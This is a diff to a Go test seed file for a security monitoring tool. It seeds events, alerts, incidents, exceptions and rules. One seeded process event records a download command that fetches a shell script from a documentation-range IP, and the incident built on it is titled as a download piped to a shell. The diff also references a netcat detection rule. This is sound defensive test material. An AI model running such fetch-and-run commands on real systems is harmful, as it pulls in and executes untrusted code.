@@ -8,6 +8,8 @@ import (
 	"time"
 
 	"github.com/vigilsec/vigil/internal/apiclient/apiclienttest"
+	"github.com/vigilsec/vigil/internal/center/api/apitest"
+	"github.com/vigilsec/vigil/internal/center/incident"
 	"github.com/vigilsec/vigil/internal/event"
 	"github.com/vigilsec/vigil/internal/store"
 )
@@ -39,9 +41,11 @@ func seed(t *testing.T, st store.Store) {
 	}
 	seedAgents(ctx, st, must)
 
+	e1 := ev("e1", -90*time.Second, "7f3c9a", "web-1", "process", "start", map[string]any{
+		"process.executable": "/usr/bin/curl", "process.command_line": "curl -s http://203.0.113.9/x.sh", "user.name": "www-data",
+		"process.entity_id": "7f3c9a-4242-1", "process.pid": 4242})
 	_, err := st.Events().Insert(ctx, []event.Event{
-		ev("e1", -90*time.Second, "7f3c9a", "web-1", "process", "start", map[string]any{
-			"process.executable": "/usr/bin/curl", "process.command_line": "curl -s http://203.0.113.9/x.sh", "user.name": "www-data"}),
+		e1,
 		ev("e2", -60*time.Second, "b81d02", "", "network", "connection_attempted", map[string]any{
 			"source.ip": "10.0.0.7", "destination.ip": "10.0.0.9", "destination.port": 3000}),
 		ev("e3", -30*time.Second, "7f3c9a", "web-1", "file", "creation", map[string]any{
@@ -67,6 +71,7 @@ func seed(t *testing.T, st store.Store) {
 	_, err = st.Alerts().SetState(ctx, "al-2", store.AlertAcknowledged,
 		store.AlertComment{At: now.Add(-5 * time.Minute), Author: "alice", Text: "on it"})
 	must("alert al-2 state", err)
+	seedDetection(ctx, st, e1, must)
 
 	must("join token jt-prod", st.JoinTokens().Create(ctx, store.JoinToken{ID: "jt-prod", Description: "prod web",
 		Labels: map[string]string{"env": "prod"}, CreatedAt: now.Add(-2 * time.Hour), CreatedBy: "alice",
@@ -191,4 +196,33 @@ func seedInventory(ctx context.Context, st store.Store, must func(string, error)
 	apply("7f3c9a", "net/listeners", webPorts, []item{
 		{"port", "tcp/0.0.0.0:3000", "3000", "", `{"process":{"executable":"/opt/tool/agentd"},"user":{"name":"www-data"}}`},
 	}, nil, -5*time.Minute)
+}
+
+// seedDetection puts the alerts into incidents (al-2 investigated by
+// alice), and adds exceptions, an imported rule file and a rule setting.
+func seedDetection(ctx context.Context, st store.Store, e1 event.Event, must func(string, error)) {
+	_, _, err := st.Incidents().Attach(ctx, store.Join{AlertID: "al-1", Title: "Agent lost without goodbye — db-1", At: now.Add(-3 * time.Hour)})
+	must("incident of al-1", err)
+	inc, _, err := st.Incidents().Attach(ctx, store.Join{AlertID: "al-2", Entities: incident.Entities("7f3c9a", e1),
+		Title: "Download piped to a shell — web-1", At: now.Add(-20 * time.Minute)})
+	must("incident of al-2", err)
+	_, err = st.Incidents().SetState(ctx, inc.ID, store.IncidentInvestigating, "alice",
+		store.IncidentComment{At: now.Add(-4 * time.Minute), Author: "alice", Text: "isolating web-1"})
+	must("incident state", err)
+
+	_, err = st.Exceptions().Create(ctx, store.Exception{ID: "ex-apt", RuleID: apitest.RuleCurlPipe,
+		Match:  map[string][]string{"process.parent.executable": {"/usr/bin/apt*", "/usr/bin/dpkg"}},
+		Reason: "package installs fetch and run scripts", Author: "alice",
+		ExpiresAt: now.AddDate(0, 0, 7), CreatedAt: now.Add(-2 * time.Hour)})
+	must("exception ex-apt", err)
+	must("hits of ex-apt", st.Exceptions().AddHits(ctx, "ex-apt", 3, now.Add(-10*time.Minute)))
+	_, err = st.Exceptions().Create(ctx, store.Exception{ID: "ex-lab", AgentID: "c0ffee", Match: map[string][]string{},
+		Reason: "test host", Author: "token:admin", ExpiresAt: now.Add(-time.Hour), CreatedAt: now.AddDate(0, 0, -1)})
+	must("exception ex-lab", err)
+
+	_, err = st.Rules().PutFile(ctx, store.RuleFile{Name: "custom/proc_creation_nc.yml", Content: []byte(apitest.NetcatRule),
+		Author: "alice", CreatedAt: now.Add(-26 * time.Hour), UpdatedAt: now.Add(-25 * time.Hour)})
+	must("rule file", err)
+	must("rule setting", st.Rules().PutSetting(ctx, store.RuleSetting{RuleID: apitest.RuleToolPort, Disabled: true,
+		Author: "alice", UpdatedAt: now.Add(-time.Hour)}))
 }
